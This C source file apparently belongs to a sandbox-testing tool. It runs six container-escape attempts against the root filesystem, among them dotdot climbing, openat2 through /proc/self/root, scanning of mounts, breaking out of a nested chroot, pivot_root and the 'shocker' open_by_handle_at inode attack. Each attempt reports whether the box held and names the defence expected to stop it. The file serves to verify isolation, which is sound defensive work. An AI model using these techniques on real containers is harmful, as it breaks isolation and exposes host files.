// SPDX-License-Identifier: Apache-2.0
// 13 above the root. The host's witness has a file /tmp/cay-TOKEN; who can read it is out.
#include <dirent.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attempt.h"
#include "world.h"

enum {
    HANDLE_MAX = 128,
};

struct handle {
    unsigned bytes;
    int type;
    unsigned char data[HANDLE_MAX];
};

// The host's file system counts as found at `root` itself or one directory below it.
static bool host_below(int root)
{
    char path[400];
    const char *token = world.host.token;
    snprintf(path, sizeof(path), "tmp/cay-%s", token);
    if (holds_token(root, path, token))
        return true;
    int fd = openat(root, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    DIR *dir = fd < 0 ? NULL : fdopendir(fd);
    const struct dirent *entry;
    bool found = false;
    while (dir != NULL && !found && (entry = readdir(dir)) != NULL) {
        if (strcmp(entry->d_name, "..") == 0 || strcmp(entry->d_name, "proc") == 0)
            continue;
        snprintf(path, sizeof(path), "%.255s/tmp/cay-%s", entry->d_name, token);
        found = holds_token(root, path, token);
    }
    if (dir != NULL)
        closedir(dir);
    return found;
}

static enum outcome judge_root(const char *way, int root)
{
    if (world.host.token[0] == '\0')
        return cannot("needs --host");
    if (root < 0)
        return held("%s: %s", way, strerrorname_np(errno));
    if (host_below(root))
        return escaped("%s leads to the host's files", way);
    return held("%s leads to the box's own root", way);
}

static enum outcome root_dotdot(const struct attempt *self)
{
    (void)self;
    int fd = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
    for (int i = 0; i < 64 && fd >= 0; i++) {
        int up = openat(fd, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
        close(fd);
        fd = up;
    }
    return judge_root("climbing by O_PATH", fd);
}

static enum outcome root_openat2(const struct attempt *self)
{
    (void)self;
    struct open_how how = {.flags = O_PATH | O_DIRECTORY | O_CLOEXEC};
    int fd = (int)syscall(SYS_openat2, AT_FDCWD, "/../../../../proc/self/root/../../..", &how,
                          sizeof(how));
    return judge_root("openat2 by /proc/self/root", fd);
}

static enum outcome root_mounts(const struct attempt *self)
{
    static char mounts[262144];
    (void)self;
    enum outcome outcome = judge_root("the mount table", open("/", O_PATH | O_CLOEXEC));
    if (outcome != HELD || slurp("/proc/self/mountinfo", mounts, sizeof(mounts)) <= 0)
        return outcome;
    int n = 0;
    char *rest = mounts;
    for (char *line; (line = strsep(&rest, "\n")) != NULL && *line != '\0';) {
        char where[1024];
        if (sscanf(line, "%*s %*s %*s %*s %1023s", where) != 1)
            continue;
        int fd = open(where, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (fd < 0)
            continue;
        n++;
        if (host_below(fd))
            return escaped("the mount at %.100s is the host's", where);
        close(fd);
    }
    return held("none of %d mounts is the host's", n);
}

// A root inside the root, with a working directory that stays outside of it.
static enum outcome root_chroot(const struct attempt *self)
{
    (void)self;
    int outside = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    mkdir(scratch_path("jail"), 0755);
    if (chroot(scratch_path("jail")) < 0)
        return held("chroot: %s", strerrorname_np(errno));
    if (outside < 0 || fchdir(outside) < 0)
        return cannot("fchdir: %s", strerrorname_np(errno));
    for (int i = 0; i < 256; i++) {
        if (chdir("..") < 0)
            break;
    }
    return judge_root("chroot inside chroot", open(".", O_PATH | O_DIRECTORY | O_CLOEXEC));
}

// Paths that do not exist are looked up only for those who may mount.
static enum outcome root_pivot(const struct attempt *self)
{
    (void)self;
    return judge_call("pivot_root", syscall(SYS_pivot_root, "/nowhere", "/nowhere"), REFUSALS);
}

static bool looks_like_root(int fd)
{
    return faccessat(fd, "etc/passwd", F_OK, 0) == 0 && faccessat(fd, "usr/bin", F_OK, 0) == 0;
}

// A file handle names an inode of a file system and not a path in a mount: inode 2 is the root of
// an ext4, 256 that of a Btrfs subvolume, wherever one of their directories is mounted.
static bool open_by_inode(int mount, const struct handle *model, unsigned inode, int *error)
{
    struct handle handle = *model;
    bool found = false;
    memset(handle.data, 0, sizeof(handle.data));
    memcpy(handle.data, &inode, sizeof(inode));
    handle.bytes = 8;
    handle.type = 1; // FILEID_INO32_GEN: inode and generation
    int fd = (int)syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY | O_DIRECTORY);
    *error = fd < 0 ? errno : 0;
    if (fd >= 0) {
        found = looks_like_root(fd);
        close(fd);
    }
    return found;
}

static enum outcome root_handle(const struct attempt *self)
{
    static const char *const trees[] = {"/usr", "/", "/etc", "/oldroot/usr"};
    static const unsigned roots[] = {2, 128, 256};
    int error = 0, last = 0;
    (void)self;
    for (size_t i = 0; i < sizeof(trees) / sizeof(trees[0]); i++) {
        struct handle model = {.bytes = HANDLE_MAX};
        int mount = open(trees[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (mount < 0)
            continue;
        for (size_t j = 0; j < sizeof(roots) / sizeof(roots[0]); j++) {
            if (open_by_inode(mount, &model, roots[j], &error))
                return escaped("inode %u of the file system below %s is the host's root", roots[j],
                               trees[i]);
            if (error != 0)
                last = error;
        }
        close(mount);
    }
    if (last == 0)
        return cannot("no directory of the host is mounted in the box");
    return held("open_by_handle_at: %s", strerrorname_np(last));
}

// It would push the members far to the right.
// clang-format off
static const struct attempt attempts[] = {
    {.number = 13,
     .name = "root_dotdot",
     .tries = "climbs .. from / by path descriptors",
     .held_by = "pivot_root, and the old root is unmounted",
     .canary = "mnt",
     .run = root_dotdot},
    {.number = 13,
     .name = "root_openat2",
     .tries = "climbs by /proc/self/root with openat2",
     .held_by = "pivot_root, and the old root is unmounted",
     .canary = "mnt",
     .run = root_openat2},
    {.number = 13,
     .name = "root_mounts",
     .tries = "looks for the host's files below every mount it sees",
     .held_by = "the old root is unmounted",
     .canary = "mnt",
     .run = root_mounts},
    {.number = 13,
     .name = "root_chroot",
     .tries = "breaks out of a chroot inside the chroot",
     .held_by = "there is nothing above: the root is a mount namespace's, not a chroot",
     .canary = "mnt," ROOT_POWER,
     .run = root_chroot},
    {.number = 13,
     .name = "root_pivot",
     .tries = "changes the root of its mount namespace",
     .held_by = "filter; no CAP_SYS_ADMIN; the mount namespace belongs to a user namespace above",
     .canary = ROOT_POWER,
     .run = root_pivot},
    {.number = 13,
     .name = "root_handle",
     .tries = "opens the host's root by its inode number (shocker)",
     .held_by = "filter, no CAP_DAC_READ_SEARCH on the host, and no mount of a file system of the host's",
     .canary = "mnt," ROOT_POWER,
     .run = root_handle},
};
// clang-format on

const struct attempt_list root_attempts = ATTEMPTS(attempts);
